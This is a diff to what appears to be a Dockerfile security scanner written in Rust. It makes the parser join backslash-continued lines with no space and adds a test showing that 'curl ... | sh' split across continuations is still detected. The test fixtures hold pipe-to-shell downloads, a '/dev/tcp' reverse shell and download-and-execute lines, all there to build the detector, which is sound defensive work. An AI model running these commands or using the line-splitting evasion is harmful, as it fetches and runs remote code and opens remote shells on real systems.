@@ -105,16 +105,14 @@ fn instructions(text: &str) -> Vec<(u64, String)> {
             }
             continue;
         }
-        let line = line.trim_start();
-        if line.is_empty() || line.starts_with('#') {
+        let begun = line.trim_start();
+        if begun.is_empty() || begun.starts_with('#') {
             continue;
         }
+        let line = if goes_on { line } else { begun };
         let (line, continues) = line.strip_suffix(escape).map_or((line, false), |line| (line, true));
         match found.last_mut().filter(|_| goes_on) {
-            Some((_, open)) => {
-                open.push(' ');
-                open.push_str(line);
-            }
+            Some((_, open)) => open.push_str(line), // the lines are one, with nothing between them
             None => found.push((begin, line.to_owned())),
         }
         goes_on = continues;
@@ -238,6 +236,7 @@ mod tests {
             ("RUN [\"/bin/sh\", \"-c\", \"curl https://a/x | sh\"]", "dockerfile.runs-download"),
             ("RUN <<EOF\ncurl https://a/x | sh\nEOF", "dockerfile.runs-download"),
             ("RUN bash -i >& /dev/tcp/a/1", "dockerfile.runs-download"),
+            ("RUN cu\\\nrl https://a/x | s\\\nh", "dockerfile.runs-download"),
             ("RUN curl https://a/x |& sh", "dockerfile.runs-download"),
             ("RUN curl https://a/x > /y && chmod +x /y && /y", "dockerfile.runs-download"),
             ("COPY <<EOF /x.sh\ncurl https://a/x | sh\nEOF", "dockerfile.runs-download"),
